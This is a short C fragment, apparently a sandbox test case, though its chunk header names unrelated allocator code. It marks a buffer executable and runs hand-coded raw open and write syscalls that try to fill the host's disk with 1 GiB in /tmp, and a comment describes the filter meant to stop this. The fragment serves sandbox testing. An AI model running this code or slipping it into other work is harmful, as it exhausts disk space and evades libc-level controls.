/* Abuse: the hidden system call opens a file in /tmp and fills it with 1 GiB,
 * to fill the host's disk.  The filter answers open with EACCES and kills a
 * write to any descriptor but 1, 2 and 3; the sandbox's /tmp is a tmpfs of
 * 16 MiB in any case. */
/* == chunk: Find the smallest order whose block holds [[size]] bytes == */
extern int mprotect(void *addr, unsigned long len, int prot);
static unsigned char code[8192] __attribute__((aligned(4096))) = {
	0xb8, 0x02, 0x00, 0x00, 0x00,	/* mov $2 (open), %eax */
	0x0f, 0x05,			/* syscall */
	0xc3,				/* ret */
	0xb8, 0x01, 0x00, 0x00, 0x00,	/* mov $1 (write), %eax */
	0x0f, 0x05,			/* syscall */
	0xc3,				/* ret */
};
static char big[1 << 20];
static const char path[] = "/tmp/filler";
long fd = -1;

if (mprotect(code, 4096, 7) == 0) {
	fd = ((long (*)(const char *, int, int))(void *)code)(path, 0101, 0644);
	for (int i = 0; fd >= 0 && i < 1024; i++)
		((long (*)(long, const char *, unsigned long))(void *)(code + 8))(fd, big, sizeof(big));
}
return 77;
